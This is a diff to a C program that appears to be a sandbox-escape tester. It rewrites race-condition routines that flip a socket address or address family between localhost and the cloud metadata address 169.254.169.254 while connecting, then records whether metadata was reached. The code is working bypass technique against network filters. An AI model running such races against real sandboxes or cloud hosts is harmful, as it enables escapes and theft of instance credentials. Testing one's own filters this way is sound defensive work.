@@ -9,6 +9,7 @@
 #include <sys/time.h>
 #include <sys/uio.h>
 #include <sys/un.h>
+#include <time.h>
 
 #define METADATA "169.254.169.254"
 #ifndef IPPROTO_MPTCP
@@ -55,55 +56,45 @@ static int tcp(int family) {
     return socket(family, SOCK_STREAM | SOCK_NONBLOCK, 0);
 }
 
-// The address is changed between look and use, over and over.
+// What is judged is changed before it is used: one thread writes the harmless and the other value over it, over and over, while another connects.
 static struct sockaddr_in swapped;
-static volatile int racing = 1;
+static volatile int racing;
 
-static void *swap(void *unused) {
+static void *swap_addresses(void *unused) {
     in_addr_t good = inet_addr("127.0.0.1"), bad = inet_addr(METADATA);
-    while (racing)
-        for (int i = 0; i < 1000; i++)
-            *(volatile in_addr_t *)&swapped.sin_addr.s_addr = i & 1 ? bad : good;
+    for (unsigned i = 0; racing; i++)
+        *(volatile in_addr_t *)&swapped.sin_addr.s_addr = i / 64 % 2 ? bad : good;
     return unused;
 }
 
-// Another socket is put in the place of one that is connected harmlessly.
-static int place;
+static void *swap_families(void *unused) {
+    for (unsigned i = 0; racing; i++)
+        *(volatile sa_family_t *)&swapped.sin_family = i / 64 % 2 ? AF_INET : AF_UNIX;
+    return unused;
+}
 
-static void *exchange(void *unused) {
-    while (racing) {
+static int leads_to_metadata(int fd) {
+    struct sockaddr_in peer = { 0 };
+    socklen_t size = sizeof peer;
+    return getpeername(fd, (void *)&peer, &size) == 0 && peer.sin_addr.s_addr == inet_addr(METADATA);
+}
+
+static void race(const char *how, void *(*swap)(void *), const char *address) {
+    pthread_t thread;
+    swapped = at(address, port);
+    racing = 1;
+    pthread_create(&thread, NULL, swap, NULL);
+    for (time_t end = time(NULL) + 3; racing && time(NULL) < end;) {
         int fd = tcp(AF_INET);
-        dup2(fd, place);
+        connect(fd, (void *)&swapped, sizeof swapped);
+        if (leads_to_metadata(fd)) {
+            REACHED("metadata by a race of %s", how);
+            racing = 0;
+        }
         close(fd);
     }
-    return unused;
-}
-
-static void race(void) {
-    pthread_t thread;
-    swapped = at("127.0.0.1", port);
-    pthread_create(&thread, NULL, swap, NULL);
-    int fds[200];
-    for (int i = 0; i < 200; i++)
-        fds[i] = try(tcp(AF_INET), &swapped, sizeof swapped);
     racing = 0;
     pthread_join(thread, NULL);
-    for (int i = 0; i < 200; i++) {
-        struct sockaddr_in peer = { 0 };
-        socklen_t size = sizeof peer;
-        if (fds[i] >= 0 && getpeername(fds[i], (void *)&peer, &size) == 0 && peer.sin_addr.s_addr == inet_addr(METADATA))
-            REACHED("metadata by a race");
-        close(fds[i]);
-    }
-    racing = 1;
-    place = tcp(AF_INET);
-    pthread_create(&thread, NULL, exchange, NULL);
-    struct sockaddr_in target = at(METADATA, port);
-    for (int i = 0; i < 200; i++)
-        connect(place, (void *)&target, 100); // a size that is none of those that are looked at
-    racing = 0;
-    pthread_join(thread, NULL);
-    attack("an exchanged descriptor", place);
 }
 
 #ifdef __x86_64__
@@ -213,7 +204,8 @@ int main(int count, char **arguments) {
     }
     if (count > 2)
         return over();
-    race();
+    race("addresses", swap_addresses, "127.0.0.1");
+    race("families", swap_families, METADATA);
     thirty_two_bits();
     ring();
     fast_open();
